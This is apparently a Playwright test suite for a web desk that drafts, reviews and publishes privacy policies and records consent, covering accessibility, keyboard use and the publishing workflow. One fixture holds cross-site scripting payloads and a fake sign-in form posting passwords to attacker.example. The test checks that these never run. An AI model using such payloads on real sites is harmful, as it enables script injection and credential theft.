"""The whole story in a real browser: from the changes of a draft to a published version, as the people who do it."""

import re
from collections.abc import Iterator
from pathlib import Path
from urllib.parse import urlsplit

import pytest
from axe_playwright_python.sync_playwright import Axe
from playwright.sync_api import Locator, Page, expect

from consent_gate.gate import Gate
from consent_gate.ledger.turnout import turnout
from consent_gate.prompts.make import make_prompt
from consent_gate.release import standing_of
from consent_gate.release.archives import ensure_archive
from desk import words
from desk.policies import LINES
from policy_versions import Actor, ActorSource
from tests.desk.desk_server import SETTLING, decide_all, desk_at, example, open_at, pages_at, settled, turn_to, work_as

AXE = {"runOnly": {"type": "tag", "values": ["wcag2a", "wcag2aa", "wcag21a", "wcag21aa", "wcag22aa", "best-practice"]}}
PAGES = ("", "draft", "compare", "review", "consent", "audit", "version")
HOSTILE = """

## Hostile

<script>window.hacked = 1</script><img src=x onerror="window.hacked = 2">

<form action="https://attacker.example/take"><input name="password"><button>Sign in again</button></form>

[Read more](javascript:window.hacked=3) and <a href="javascript:window.hacked=4">here</a>.
We use your name for marketing <b onclick="window.hacked=5">now</b>.

<iframe srcdoc="<script>parent.hacked = 6</script>"></iframe>
"""


@pytest.fixture(scope="module")
def laid_out(tmp_path_factory: pytest.TempPathFactory) -> Path:
    return example(tmp_path_factory.mktemp("desk"))


@pytest.fixture(scope="module")
def desk(laid_out: Path) -> Iterator[str]:
    with desk_at(laid_out, RECONSENT_ONE_PERSON="true") as address:
        yield address


def opened(folder: Path) -> Gate:
    return Gate.open(f"sqlite:///{folder / 'ledger.db'}", folder / "archive", keys=folder / "keys")


# Streamlit's own drop zone is a `section` with role=presentation that can take the focus: no criterion of A or AA, a best practice.
OF_THE_LIBRARY = ("presentation-role-conflict", "stFileUploaderDropzone")


# What is drawn anew is faded until it is; axe would measure the contrast of a colour on its way.
STILL = "() => document.getAnimations().every((one) => one.playState !== 'running')"


def violations(page: Page) -> list[tuple[str, list[str]]]:
    page.wait_for_function(STILL, timeout=SETTLING)
    found = Axe().run(page, options=AXE).response["violations"]
    all_of_them = [(one["id"], [node["html"][:160] for node in one["nodes"]]) for one in found]
    rule, place = OF_THE_LIBRARY
    return [(id_, nodes) for id_, nodes in all_of_them if id_ != rule or any(place not in node for node in nodes)]


@pytest.mark.parametrize("scheme", ["light", "dark"])
def test_axe_finds_nothing_on_any_page(desk: str, page: Page, scheme: str) -> None:
    page.emulate_media(color_scheme=scheme)
    problems = {}
    for name in PAGES:
        open_at(page, desk, name)
        for drawn in page.get_by_test_id("stDataFrame").all() + page.get_by_test_id("stVegaLiteChart").all():
            expect(drawn.locator("canvas, svg").first).to_be_attached(timeout=SETTLING)  # after the script has ended
        if found := violations(page):
            problems[name or "policies"] = found
        if name == "consent":
            page.get_by_role("textbox", name=words.SUBJECT).fill("shop-1")
            page.get_by_role("textbox", name=words.SUBJECT).press("Enter")
            expect(page.get_by_role("heading", name=words.RECORDS)).to_be_visible(timeout=SETTLING)
            settled(page)
            if found := violations(page):
                problems["consent of one person"] = found
        for tab in page.get_by_role("tab").all():
            tab.click()
            settled(page)
            if found := violations(page):
                problems[f"{name}: {tab.inner_text()}"] = found
    assert problems == {}


def test_a_hostile_draft_runs_nothing(laid_out: Path, desk: str, page: Page) -> None:
    with opened(laid_out) as gate:
        author = Actor("eve@orchardlane.example", ActorSource.CLAIMED)
        draft = gate.archive.start_draft("privacy", "hostile", actor=author)
        text = draft.files["en.md"].decode() + HOSTILE
        draft = gate.archive.save(
            "privacy", "hostile", {"en.md": text.encode()}, expected=draft.commit, actor=author, message="Add a section"
        )
    asked: list[str] = []
    page.on("request", lambda request: asked.append(request.url))
    try:
        for name in ("draft", "review", ""):
            open_at(page, desk, f"{name}?draft=hostile")
            for tab in page.get_by_role("tab").all():
                tab.click()
                settled(page)
            main = page.get_by_test_id("stMain")
            assert main.locator("script").count() == 0
            assert main.locator('iframe[srcdoc*="parent.hacked"]').count() == 0
            assert main.locator("form[action], input[name=password]").count() == 0
            assert main.locator('a[href^="javascript:"], [onclick], [onerror]').count() == 0
            for frame in page.frames:
                assert frame.evaluate("window.hacked") is None
                assert frame.locator("input[name=password], a[href^='javascript:'], [onclick], [onerror]").count() == 0
    finally:
        with opened(laid_out) as gate:
            gate.archive.delete_draft("privacy", "hostile", expected=draft.commit)
    assert {urlsplit(url).hostname for url in asked if url.startswith("http")} == {"127.0.0.1"}


LAPTOP = {"width": 1024, "height": 576}
"""1280 by 720 at 125 %, in the page's own pixels."""


def in_sight(one: Locator) -> bool:
    """Whether all of it is within the window."""
    box = one.bounding_box()
    assert box is not None
    bottom, right = box["y"] + box["height"], box["x"] + box["width"]
    return box["y"] >= 0 and bottom <= LAPTOP["height"] and box["x"] >= 0 and right <= LAPTOP["width"]


def test_on_a_small_laptop_what_is_worked_with_is_seen_without_scrolling(desk: str, page: Page) -> None:
    page.set_viewport_size(LAPTOP)
    open_at(page, desk, "draft")
    text = page.get_by_role("textbox", name=words.TEXT_IN.format(language="en"))
    redlined = page.locator(".rl").first
    for one in (page.get_by_role("button", name=re.compile(f"^{words.SAVE}")), text, redlined, *page.get_by_role("tab").all()):
        assert in_sight(one), one
    redlined.hover()
    page.mouse.wheel(0, 500)
    expect(redlined).not_to_be_in_viewport()
    assert in_sight(text)  # the words stay where they are while their changes are gone through
    open_at(page, desk, "review")
    assert in_sight(page.locator(".rl").first)
    open_at(page, desk, "compare")
    assert in_sight(page.locator(".rl").first)


def test_the_summaries_in_the_table_of_versions_are_not_cut(desk: str, page: Page) -> None:
    """Drawn on a canvas, so looked at as pixels: the second line of a summary is there."""
    open_at(page, desk, "")
    table = page.get_by_test_id("stDataFrame").last
    expect(table.locator("canvas").first).to_be_attached(timeout=SETTLING)
    height = table.bounding_box()
    assert height is not None
    assert height["height"] >= 4 * LINES * 18  # four versions


NOOR, TOMAS = "noor@orchardlane.example", "tomas@orchardlane.example"
NEW = "maker-browsing"


def answer(page: Page, folder: Path, pages: str, subject: str, how: str) -> str:
    """Open the person's prompt as they do and answer what the new permission asks; the button that was pressed."""
    with opened(folder) as gate:
        words_of_it = str(gate.ledger.versions("privacy")[-1].policy.permission(NEW).text)
        url = make_prompt(gate, subject, public_url=pages).url
    page.goto(url)
    sheet = page.locator("section.sheet").filter(has_text=words_of_it)
    with page.expect_navigation():
        sheet.get_by_role("button", name=how, exact=True).press("Enter")
    return words_of_it


def metric(page: Page, label: str) -> Locator:
    return page.get_by_test_id("stMetric").filter(has_text=re.compile(rf"^{label}")).get_by_test_id("stMetricValue")


def test_the_whole_story_from_the_draft_to_the_answers_of_people(tmp_path: Path, page: Page) -> None:
    folder = example(tmp_path / "story")
    with desk_at(folder, RECONSENT_ONE_PERSON="true") as address, pages_at(folder) as pages:
        open_at(page, address, "")
        work_as(page, words.WORKING_AS, NOOR)
        turn_to(page, words.DRAFT)
        expect(page.get_by_text("We keep browsing for").last).to_be_visible()
        turn_to(page, words.COMPARE)
        expect(page.get_by_text("We keep browsing for").last).to_be_visible()
        turn_to(page, words.REVIEW)
        decide_all(page, folder, Actor("mara@orchardlane.example"))
        expect(page.get_by_text(words.NOTHING_TO_DECIDE)).to_be_visible()
        work_as(page, words.WORKING_AS, TOMAS)
        page.get_by_role("button", name=words.APPROVE, exact=True).click()
        expect(page.get_by_text(words.APPROVED_BY.format(names=TOMAS))).to_be_visible(timeout=SETTLING)
        page.get_by_role("button", name=words.PUBLISH, exact=True).click()
        dialog = page.get_by_role("dialog")
        expect(dialog.get_by_text("privacy@5")).to_be_visible(timeout=SETTLING)
        settled(page)
        assert violations(page) == []
        dialog.get_by_role("button", name=words.PUBLISH_FINALLY).click()
        expect(page.get_by_text(re.compile("^Published privacy@5, in force from"))).to_be_visible(timeout=SETTLING)
        with opened(folder) as gate:
            newest = gate.ledger.versions("privacy")[-1]
            assert newest.name == "privacy@5"
            assert newest.policy.permission(NEW) is not None
            assert newest.texts["en"].count("two years") == 1
        turn_to(page, words.CONSENT)
        expect(page.get_by_role("heading", name=words.RESPONSES)).to_be_visible(timeout=SETTLING)
        answer(page, folder, pages, "shop-5", "Accept")
        answer(page, folder, pages, "shop-2", "Decline")
        open_at(page, address, "consent")
        expect(metric(page, words.RESPONSE_BRIEF["given"])).to_have_text("1")
        expect(metric(page, words.RESPONSE_BRIEF["refused"])).to_have_text("1")
        with opened(folder) as gate:
            counted = {one.subject_of: one.people for one in turnout(gate.ledger.database, "privacy")}
            assert (counted[NEW]["given"], counted[NEW]["refused"]) == (1, 1)


NOTICE = """# Privacy notice of Heron Boats

Effective 1 March 2021

We use your email address to send you our newsletter if you have agreed to it.

We do not sell your personal information.
"""


def test_an_old_policy_is_brought_in_by_forms_alone(tmp_path: Path, page: Page) -> None:
    ensure_archive(tmp_path / "archive")
    (tmp_path / "notice.md").write_text(NOTICE)
    with desk_at(tmp_path, RECONSENT_ONE_PERSON="true") as address:
        open_at(page, address, "")
        work_as(page, words.WORKING_AS, NOOR)
        organisation = page.get_by_role("textbox", name=words.ORGANISATION)
        organisation.fill("Heron Boats Ltd")
        organisation.press("Enter")
        settled(page)
        page.locator("input[type=file]").set_input_files(tmp_path / "notice.md")
        expect(page.get_by_role("heading", name=words.FOUND_PERMISSIONS)).to_be_visible(timeout=SETTLING)
        settled(page)
        assert violations(page) == []
        page.get_by_role("button", name=words.BEGIN_WITH_IT).click()
        expect(page.get_by_text(words.BEGUN.format(name=words.FIRST_DRAFT))).to_be_visible(timeout=SETTLING)
        settled(page)
        turn_to(page, words.REVIEW)
        page.get_by_role("button", name=words.TAKE_IN, exact=True).click()
        dialog = page.get_by_role("dialog")
        expect(dialog.get_by_text("1 permission and 1 promise")).to_be_visible(timeout=SETTLING)
        settled(page)
        assert violations(page) == []
        dialog.get_by_role("button", name=words.TAKE_IN_FINALLY).click()
        expect(page.get_by_text("privacy@1 is taken in, in force since 2021-03-01 00:00 UTC.")).to_be_visible(timeout=SETTLING)
        expect(page.get_by_role("heading", level=1, name=words.VERSION)).to_be_visible()
    with opened(tmp_path) as gate:
        (version,) = gate.ledger.versions("privacy")
        assert version.imported


def tab_to(page: Page, role: str, name: str, *, backwards: bool = False) -> None:
    """Press Tab until that is in focus, as who has no mouse does."""
    wanted = page.get_by_role(role, name=name, exact=True)  # type: ignore[arg-type]
    expect(wanted.first).to_be_visible(timeout=SETTLING)
    for _ in range(250):
        if any(one.evaluate("it => it === document.activeElement || it.contains(document.activeElement)") for one in wanted.all()):
            return
        page.keyboard.press("Shift+Tab" if backwards else "Tab")
    raise AssertionError(f"no Tab leads to the {role} {name}")


def test_the_whole_story_by_keyboard_alone(tmp_path: Path, page: Page) -> None:
    folder = example(tmp_path / "keyboard")
    with desk_at(folder, RECONSENT_ONE_PERSON="true") as address, pages_at(folder) as pages:
        open_at(page, address, "")
        tab_to(page, "textbox", words.WORKING_AS)
        page.keyboard.type(NOOR)
        page.keyboard.press("Enter")
        settled(page)
        tab_to(page, "link", words.REVIEW)
        page.keyboard.press("Enter")
        expect(page.get_by_role("heading", level=1, name=words.REVIEW)).to_be_visible(timeout=SETTLING)
        settled(page)
        with opened(folder) as gate:
            count = len(standing_of(gate, "privacy", "wider-reach").open_flags())
        place = page.get_by_text(words.UNDECIDED_OF.format(number=2, count=count))
        page.keyboard.press("Alt+ArrowDown")
        expect(place).to_be_visible(timeout=SETTLING)
        page.keyboard.press("Alt+ArrowUp")
        expect(page.get_by_text(words.UNDECIDED_OF.format(number=1, count=count))).to_be_visible(timeout=SETTLING)
        for done in range(1, count + 1):
            settled(page)
            tab_to(page, "radio", words.VERDICTS["confirmed"])
            page.keyboard.press("ArrowDown")
            expect(page.get_by_role("radio", name=words.VERDICTS["overridden"])).to_be_checked()
            tab_to(page, "textbox", words.REASON)
            page.keyboard.type("The order history already allowed it.")
            page.keyboard.press("Control+Enter")
            expect(page.get_by_text(words.TO_DECIDE.format(done=done, total=count))).to_be_visible(timeout=SETTLING)
        expect(page.get_by_text(words.NOTHING_TO_DECIDE)).to_be_visible(timeout=SETTLING)
        settled(page)
        tab_to(page, "textbox", words.WORKING_AS, backwards=True)
        page.keyboard.press("Control+a")
        page.keyboard.type(TOMAS)
        page.keyboard.press("Enter")
        settled(page)
        tab_to(page, "button", words.APPROVE)
        page.keyboard.press("Enter")
        expect(page.get_by_text(words.APPROVED_BY.format(names=TOMAS))).to_be_visible(timeout=SETTLING)
        settled(page)
        tab_to(page, "button", words.PUBLISH)
        page.keyboard.press("Enter")
        expect(page.get_by_role("dialog")).to_be_visible(timeout=SETTLING)
        settled(page)
        tab_to(page, "button", words.PUBLISH_FINALLY)
        page.keyboard.press("Enter")
        expect(page.get_by_text(re.compile("^Published privacy@5, in force from"))).to_be_visible(timeout=SETTLING)
        answer(page, folder, pages, "shop-5", "Accept")
        open_at(page, address, "consent")
        expect(metric(page, words.RESPONSE_BRIEF["given"])).to_have_text("1")
        tab_to(page, "textbox", words.SUBJECT)
        page.keyboard.type("shop-5")
        page.keyboard.press("Enter")
        expect(page.get_by_role("heading", name=words.ANSWERS)).to_be_visible(timeout=SETTLING)


def test_a_bar_of_the_chart_and_a_name_in_the_field_open_the_version(desk: str, page: Page) -> None:
    open_at(page, desk, "")
    page.locator('[aria-roledescription="bar"][aria-label*="privacy@3"]').first.click(timeout=SETTLING)
    expect(page.get_by_role("heading", level=1, name=words.VERSION)).to_be_visible(timeout=SETTLING)
    settled(page)
    expect(page.get_by_text(re.compile("^privacy@3 was in force from"))).to_be_visible()
    turn_to(page, words.POLICIES)
    field = page.get_by_role("combobox", name=words.OPEN)
    field.press("Enter")
    field.press_sequentially("privacy@2")
    field.press("Enter")
    expect(page.get_by_role("heading", level=1, name=words.VERSION)).to_be_visible(timeout=SETTLING)
    expect(page.get_by_text(re.compile("^privacy@2 was in force from"))).to_be_visible(timeout=SETTLING)
